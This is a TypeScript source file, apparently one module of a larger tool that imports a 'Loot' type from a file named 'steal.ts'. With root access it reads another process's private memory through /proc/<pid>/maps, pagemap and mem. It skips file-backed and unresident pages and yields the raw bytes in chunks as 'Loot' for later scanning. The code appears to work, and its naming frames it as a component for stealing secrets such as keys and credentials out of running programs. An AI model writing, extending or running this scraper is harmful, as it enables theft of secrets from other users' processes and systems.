/** Row 3: a captured process. What it holds in memory at that moment, read as root reads it (proc(5), `mem`); its files are in the backup. */
import { closeSync, openSync, readFileSync, readSync } from 'node:fs'
import type { Loot } from './steal.ts'

/** Of one process; V8's and OpenSSL's heaps are far below. */
const bytesMax = 1_500_000_000
const chunkBytes = 16 * 1024 * 1024
/** A text may lie across the seam of two chunks. */
const overlapBytes = 4_096
const pageBytes = 4_096
/** Of `pagemap`, for each page. */
const entryBytes = 8

const readable = /^([0-9a-f]+)-([0-9a-f]+) r[-w]..\s\S+\s(\S+)\s\d+\s*(.*)$/

/** Its private, written-to memory: what is mapped from files is the code that everybody has. */
const regionsOf = (pid: number): readonly (readonly [from: number, to: number])[] =>
  readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n').flatMap((line) => {
    const [, from = '', to = '', device, path = ''] = readable.exec(line) ?? []
    const isOwn = device === '00:00' && !path.startsWith('[v')
    return isOwn ? [[Number.parseInt(from, 16), Number.parseInt(to, 16)] as const] : []
  })

/** The parts of a region that are there: most of what a heap reserves never was (`pagemap`, bits 62 and 63). */
function* presentIn(pagemap: number, [from, to]: readonly [number, number]): Generator<readonly [from: number, to: number]> {
  const entries = Buffer.alloc((Math.ceil((to - from) / pageBytes)) * entryBytes)
  readSync(pagemap, entries, 0, entries.length, (from / pageBytes) * entryBytes)
  let begin = -1
  for (let page = 0; page <= entries.length / entryBytes; page += 1) {
    const isThere = page < entries.length / entryBytes && ((entries[page * entryBytes + entryBytes - 1] ?? 0) & 0xc0) !== 0
    if (isThere && begin < 0) begin = page
    if (isThere || begin < 0) continue
    yield [from + begin * pageBytes, from + page * pageBytes]
    begin = -1
  }
}

/** Piece by piece, so that nothing of the size of a process is held. */
export function* memoryOf(label: string, pid: number): Generator<Loot> {
  const [memory, pagemap] = [openSync(`/proc/${pid}/mem`, 'r'), openSync(`/proc/${pid}/pagemap`, 'r')]
  const buffer = Buffer.alloc(chunkBytes)
  let total = 0
  try {
    for (const region of regionsOf(pid)) {
      for (const [from, to] of presentIn(pagemap, region)) {
        for (let at = from; at < to && total < bytesMax; at += chunkBytes - overlapBytes) {
          let count = 0
          try {
            count = readSync(memory, buffer, 0, Math.min(chunkBytes, to - at), at)
          } catch {
            // Given back meanwhile.
            continue
          }
          total += count
          yield { where: `${label}, memory`, bytes: buffer.subarray(0, count) }
        }
      }
    }
  } finally {
    closeSync(memory)
    closeSync(pagemap)
  }
}
